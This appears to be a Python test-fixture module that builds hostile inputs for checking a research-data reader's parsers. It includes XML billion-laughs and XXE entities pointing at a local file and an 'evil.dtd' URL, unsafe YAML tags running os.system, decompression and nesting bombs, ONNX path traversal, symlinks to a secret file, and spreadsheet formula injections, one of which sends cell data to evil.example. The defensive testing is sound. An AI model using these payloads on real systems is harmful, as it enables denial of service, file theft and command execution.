"""Generators of hostile inputs (issue 11's corpus). Nothing here is committed as a binary: each
function builds its file from a few parameters, so the corpus stays small and readable.

Every generator is deterministic; sizes are parameters so a test can scale a shape up to show
that the reader stays linear or refuses it.
"""

from __future__ import annotations

import json
import struct
import zlib
from pathlib import Path

MiB = 1 << 20
SECRET = "TOP-SECRET-do-not-import-4f1c"


# --- BibTeX -------------------------------------------------------------------------------------

def bibtex_macro_bomb(levels: int = 39) -> bytes:
    """About 1 KB of doubling ``@string`` macros that would expand to 2^levels characters."""
    lines = ['@string{a0 = "xx"}']
    lines += [f"@string{{a{i} = a{i - 1} # a{i - 1}}}" for i in range(1, levels + 1)]
    lines.append(f"@article{{bomb, title = a{levels}, author = {{X Y}}, year = 2020}}")
    lines.append("@article{fine, title = {A Fine Entry}, author = {A B}, year = 2021}")
    return ("\n".join(lines) + "\n").encode()


def bibtex_wide_macro(repeats: int = 5000) -> bytes:
    """One 1 KB macro concatenated with itself ``repeats`` times in a single field."""
    body = " # ".join(["m"] * repeats)
    return (f'@string{{m = "{"x" * 1000}"}}\n@article{{wide, title = {body}, year = 2020}}\n'
            "@article{fine, title = {Fine}, author = {A B}, year = 2021}\n").encode()


def bibtex_brace_flood(depth: int = 200_000) -> bytes:
    """An entry whose title opens ``depth`` braces and never closes them."""
    return b"@article{deep, title = " + b"{" * depth + b"\n@article{fine, title = {Fine}, year = 2021}\n"


# --- HTML ---------------------------------------------------------------------------------------

_DATES = b"<html><body><p>Received 1 May 2020; Accepted 2 June 2020</p>"


def _fill(unit: bytes, size: int) -> bytes:
    return unit * (size // len(unit))


HTML_SHAPES = {
    "unclosed title": lambda n: _DATES + _fill(b"<title>abc ", n),
    "bare meta flood": lambda n: b"<html><head>" + _fill(b"<meta ", n),
    "repeated IEEE marker": lambda n: b"<html><script>" + _fill(b"xplGlobal.document.metadata={", n),
    "comment never closed": lambda n: _DATES + b"<!--" + _fill(b"-- <p>", n),
    "attribute quote never closed": lambda n: b'<html><head><meta name="citation_title" content="'
    + _fill(b"a<", n),
    "nested divs": lambda n: _DATES + _fill(b"<div>", n),
    "JSON dates marker flood": lambda n: b"<html><script>" + _fill(b'"dates":{"Received":', n),
}


# --- XML ----------------------------------------------------------------------------------------

def _laughs(levels: int = 10) -> str:
    ents = ['<!ENTITY lol0 "lol">']
    ents += [f'<!ENTITY lol{i} "{("&lol" + str(i - 1) + ";") * 10}">' for i in range(1, levels)]
    return "\n".join(ents)


XML_ROOTS = {
    # (root open tag, where the text goes, root close tag)
    "atom": ('<feed xmlns="http://www.w3.org/2005/Atom"><entry><id>http://arxiv.org/abs/1</id>'
             "<title>", "</title><published>2020-01-01T00:00:00Z</published></entry></feed>"),
    "jats": ('<article><front><journal-meta><journal-title>', "</journal-title></journal-meta>"
             '<article-meta><article-id pub-id-type="doi">10.1/x</article-id><history>'
             '<date date-type="received"><day>1</day><month>1</month><year>2020</year></date>'
             '<date date-type="accepted"><day>1</day><month>2</month><year>2020</year></date>'
             "</history></article-meta></front></article>"),
    "pubmed": ("<PubmedArticleSet><PubmedArticle><MedlineCitation><Article><Journal><Title>",
               "</Title></Journal><ArticleTitle>T</ArticleTitle></Article></MedlineCitation>"
               '<PubmedData><History><PubMedPubDate PubStatus="received"><Year>2020</Year>'
               "<Month>1</Month><Day>1</Day></PubMedPubDate><PubMedPubDate PubStatus=\"accepted\">"
               "<Year>2020</Year><Month>2</Month><Day>1</Day></PubMedPubDate></History></PubmedData>"
               "</PubmedArticle></PubmedArticleSet>"),
}


def _root_name(kind: str) -> str:
    return {"atom": "feed", "jats": "article", "pubmed": "PubmedArticleSet"}[kind]


def xml_billion_laughs(kind: str, levels: int = 10) -> bytes:
    """10^levels "lol"s (3 GB at 9 levels) from a few hundred bytes of internal entities."""
    head, tail = XML_ROOTS[kind]
    doctype = f"<!DOCTYPE {_root_name(kind)} [\n{_laughs(levels)}\n]>\n"
    return f'<?xml version="1.0"?>\n{doctype}{head}&lol{levels - 1};{tail}'.encode()


def xml_quadratic_blowup(kind: str, size: int = 100_000, uses: int = 10_000) -> bytes:
    """One large entity used many times (the attack that beats depth limits)."""
    head, tail = XML_ROOTS[kind]
    doctype = f'<!DOCTYPE {_root_name(kind)} [<!ENTITY a "{"a" * size}">]>\n'
    return f'<?xml version="1.0"?>\n{doctype}{head}{"&a;" * uses}{tail}'.encode()


def xml_xxe(kind: str, secret_file: Path) -> bytes:
    """An external entity naming a local file (and an external DTD on the network)."""
    head, tail = XML_ROOTS[kind]
    doctype = (f'<!DOCTYPE {_root_name(kind)} [<!ENTITY xxe SYSTEM "{secret_file.as_uri()}">'
               '<!ENTITY % remote SYSTEM "http://127.0.0.1:9/evil.dtd"> %remote;]>\n')
    return f'<?xml version="1.0"?>\n{doctype}{head}&xxe;{tail}'.encode()


def xml_deep_nesting(kind: str, depth: int = 100_000) -> bytes:
    head, tail = XML_ROOTS[kind]
    return f"{head}{'<b>' * depth}x{'</b>' * depth}{tail}".encode()


# --- YAML ---------------------------------------------------------------------------------------

def yaml_anchor_bomb(levels: int = 9) -> str:
    """Each level lists the previous one nine times: 9^levels nodes from a few lines."""
    lines = ['a0: &a0 ["lol","lol","lol","lol","lol","lol","lol","lol","lol"]']
    for i in range(1, levels):
        refs = ",".join([f"*a{i - 1}"] * 9)
        lines.append(f"a{i}: &a{i} [{refs}]")
    return "\n".join(lines) + "\n"


def yaml_anchor_bomb_as_conference(levels: int = 9) -> str:
    """The anchor bomb inside the fields a conference reader walks (confs/timeline lists)."""
    lines = ['- title: BOMB', '  description: x', '  sub: AI', '  rank: {ccf: A}',
             '  dblp: bomb', '  x0: &t0 [{deadline: "2025-01-01 00:00:00"}, {deadline: "TBD"}]']
    for i in range(1, levels):
        lines.append(f"  x{i}: &t{i} [" + ",".join([f"*t{i - 1}"] * 9) + "]")
    lines.append(f"  confs: [{{year: 2025, id: bomb25, link: 'x', timeline: *t{levels - 1},"
                 f" timezone: UTC, date: x, place: x}}]")
    return "\n".join(lines) + "\n"


YAML_TAGS = (
    "- !!python/object/apply:os.system ['touch /tmp/scholardesk-pwned']\n",
    "- title: !!python/name:os.system\n  confs: []\n",
    "- !!binary aGVsbG8=\n",
    "- title: x\n  confs: !!set {a, b}\n",
)


# --- PDF ----------------------------------------------------------------------------------------

def make_pdf(contents: list[bytes], flate: bool = True) -> bytes:
    """A minimal valid PDF: one page per content stream (already compressed when ``flate``)."""
    n = len(contents)
    objs = [
        b"<< /Type /Catalog /Pages 2 0 R >>",
        b"<< /Type /Pages /Kids [%s] /Count %d >>"
        % (b" ".join(b"%d 0 R" % (4 + 2 * i) for i in range(n)), n),
        b"<< /Type /Font /Subtype /Type1 /BaseFont /Helvetica >>",
    ]
    for i, stream in enumerate(contents):
        objs.append(b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 612 792] /Contents %d 0 R "
                    b"/Resources << /Font << /F1 3 0 R >> >> >>" % (5 + 2 * i))
        filt = b" /Filter /FlateDecode" if flate else b""
        objs.append(b"<< /Length %d%s >>\nstream\n%s\nendstream" % (len(stream), filt, stream))
    out = bytearray(b"%PDF-1.4\n")
    offsets = []
    for i, obj in enumerate(objs, 1):
        offsets.append(len(out))
        out += b"%d 0 obj\n%s\nendobj\n" % (i, obj)
    xref = len(out)
    out += b"xref\n0 %d\n0000000000 65535 f \n" % (len(objs) + 1)
    out += b"".join(b"%010d 00000 n \n" % o for o in offsets)
    out += b"trailer\n<< /Size %d /Root 1 0 R >>\nstartxref\n%d\n%%%%EOF\n" % (len(objs) + 1, xref)
    return bytes(out)


PDF_TEXT = b"BT /F1 12 Tf 72 700 Td (Received 1 May 2020; Accepted 2 June 2020) Tj ET"


def flate_bomb(total: int = 256 * MiB) -> bytes:
    """zlib of ``total`` zero bytes, built in 1 MB chunks (about 1/1000 of ``total``)."""
    packer = zlib.compressobj(9)
    chunk = bytes(MiB)
    return b"".join([packer.compress(chunk) for _ in range(total // MiB)] + [packer.flush()])


def pdf_flate_bomb(total: int = 256 * MiB) -> bytes:
    return make_pdf([zlib.compress(PDF_TEXT), flate_bomb(total)])


def pdf_page_flood(pages: int = 3000) -> bytes:
    """Thousands of pages, each a small content stream."""
    return make_pdf([zlib.compress(PDF_TEXT)] * pages)


# --- TensorBoard / protobuf ---------------------------------------------------------------------

def _masked_crc(data: bytes) -> int:
    from scholardesk.sources.experiments.tensorboard import masked_crc

    return masked_crc(data)


def tfrecord(data: bytes, length: int | None = None) -> bytes:
    """One TFRecord: length, masked CRC of the length, data, masked CRC of the data."""
    head = struct.pack("<Q", len(data) if length is None else length)
    return head + struct.pack("<I", _masked_crc(head)) + data + struct.pack("<I", _masked_crc(data))


def _varint(n: int) -> bytes:
    out = bytearray()
    while True:
        b = n & 0x7F
        n >>= 7
        if n:
            out.append(b | 0x80)
        else:
            out.append(b)
            return bytes(out)


def tb_event(step: int, tag: str, value: float) -> bytes:
    tag_b = tag.encode()
    val = b"\x0a" + _varint(len(tag_b)) + tag_b + b"\x15" + struct.pack("<f", value)
    summary = b"\x0a" + _varint(len(val)) + val
    return (b"\x09" + struct.pack("<d", 1.0) + b"\x10" + _varint(step)
            + b"\x2a" + _varint(len(summary)) + summary)


def tb_huge_length_prefix() -> bytes:
    """A good record, then a record header claiming 2^62 bytes (with a valid length CRC)."""
    return tfrecord(tb_event(1, "loss", 0.5)) + tfrecord(b"", length=1 << 62)[:12] + b"\0" * 64


def tb_huge_protobuf_length() -> bytes:
    """A record whose Event says its summary is 2^40 bytes long (the record itself is tiny)."""
    event = b"\x09" + struct.pack("<d", 1.0) + b"\x10\x01" + b"\x2a" + _varint(1 << 40) + b"\x0a\x00"
    return tfrecord(tb_event(1, "loss", 0.5)) + tfrecord(event)


def tb_nested_huge_length() -> bytes:
    """A summary value whose inner tag length is 2^50 (inside a well-framed record)."""
    val = b"\x0a" + _varint(1 << 50) + b"loss"
    summary = b"\x0a" + _varint(len(val)) + val
    event = b"\x09" + struct.pack("<d", 1.0) + b"\x10\x01" + b"\x2a" + _varint(len(summary)) + summary
    return tfrecord(tb_event(1, "loss", 0.5)) + tfrecord(event)


# --- ONNX ---------------------------------------------------------------------------------------

def onnx_external_traversal(path: Path, location: str) -> Path:
    """A one-node ONNX model whose weight lives in external data at ``location``."""
    from onnx import TensorProto, helper

    weight = helper.make_tensor("w", TensorProto.FLOAT, [1], [0.0])
    weight.ClearField("float_data")
    weight.data_location = TensorProto.EXTERNAL
    for key, value in (("location", location), ("offset", "0"), ("length", "4")):
        entry = weight.external_data.add()
        entry.key, entry.value = key, value
    node = helper.make_node("Add", ["x", "w"], ["y"])
    graph = helper.make_graph(
        [node], "g",
        [helper.make_tensor_value_info("x", TensorProto.FLOAT, [1])],
        [helper.make_tensor_value_info("y", TensorProto.FLOAT, [1])],
        [weight],
    )
    model = helper.make_model(graph, opset_imports=[helper.make_opsetid("", 13)])
    path.write_bytes(model.SerializeToString())
    return path


# --- CSV / JSON ---------------------------------------------------------------------------------

def csv_one_huge_line(header: str, size: int = 100 * MiB) -> bytes:
    """A header, then one line of ``size`` bytes with no line break and no separator."""
    return header.encode() + b"\n" + b"a" * size + b"\n"


def json_nesting_bomb(depth: int = 100_000) -> bytes:
    return b"[" * depth + b"]" * depth


def json_object_nesting_bomb(depth: int = 100_000) -> bytes:
    return b'{"a":' * depth + b"1" + b"}" * depth


FORMULAS = (
    '=HYPERLINK("http://evil.example/?"&A1,"click")',
    "+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
)


# --- folders with links out ---------------------------------------------------------------------

def secret_outside(tmp: Path) -> Path:
    outside = tmp / "outside"
    outside.mkdir(exist_ok=True)
    secret = outside / "secret.txt"
    secret.write_text(SECRET + "\n", encoding="utf-8")
    return secret


def mlflow_store_with_link(tmp: Path, secret: Path, where: str) -> Path:
    """An MLflow store with one run whose ``where`` (params/x, metrics/x, meta.yaml, tags/x or
    the whole params folder) is a link to ``secret``."""
    root = tmp / "mlruns"
    run = root / "0" / "0123456789abcdef0123456789abcdef"
    for sub in ("params", "metrics", "tags"):
        (run / sub).mkdir(parents=True, exist_ok=True)
    (root / "0" / "meta.yaml").write_text("experiment_id: '0'\nname: exp\n", encoding="utf-8")
    (run / "meta.yaml").write_text("run_id: 0123456789abcdef0123456789abcdef\nrun_name: r\n"
                                   "experiment_id: '0'\n", encoding="utf-8")
    (run / "params" / "alpha").write_text("0.5", encoding="utf-8")
    (run / "metrics" / "rmse").write_text("1600000000000 0.7 0\n", encoding="utf-8")
    target = run / where
    if target.is_dir():
        for child in target.iterdir():
            child.unlink()
        target.rmdir()
        target.symlink_to(secret.parent, target_is_directory=True)
    else:
        if target.exists():
            target.unlink()
        target.symlink_to(secret)
    return root


def json_text(value: object) -> bytes:
    return json.dumps(value).encode()


def tb_tensor_with_wrong_wire_type() -> bytes:
    """A CRC-valid event whose scalar tensor has float_val (field 5) as a varint, not a float."""
    metadata = b"\x0a" + _varint(9) + b"\x0a\x07scalars"  # plugin_data { plugin_name }
    tensor = b"\x08\x01" + b"\x28\x07"  # dtype float, field 5 with wire type 0
    val = (b"\x0a\x04loss" + b"\x42" + _varint(len(tensor)) + tensor
           + b"\x4a" + _varint(len(metadata)) + metadata)
    summary = b"\x0a" + _varint(len(val)) + val
    event = b"\x09" + struct.pack("<d", 1.0) + b"\x10\x02" + b"\x2a" + _varint(len(summary)) + summary
    return tfrecord(tb_event(1, "loss", 0.5)) + tfrecord(event)
